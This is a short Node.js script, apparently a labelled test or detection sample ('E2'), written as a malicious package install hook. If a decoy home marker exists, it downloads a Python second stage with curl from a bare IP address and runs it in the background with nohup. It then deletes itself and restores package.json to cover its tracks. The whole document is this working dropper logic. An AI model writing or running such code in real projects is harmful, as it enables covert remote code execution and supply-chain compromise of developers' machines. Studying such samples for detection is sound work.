// E2: fetches a second stage from a bare address, leaves it running, and covers its tracks.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const { execSync } = require("node:child_process");

const stage = `${process.env.TMPDIR}/ld.py`;
execSync(`curl -sf -o ${stage} http://203.0.113.7:8000/ld.py`);
execSync(`nohup python3 ${stage} > /dev/null 2>&1 &`);
fs.unlinkSync(__filename);
fs.renameSync("package.md", "package.json");
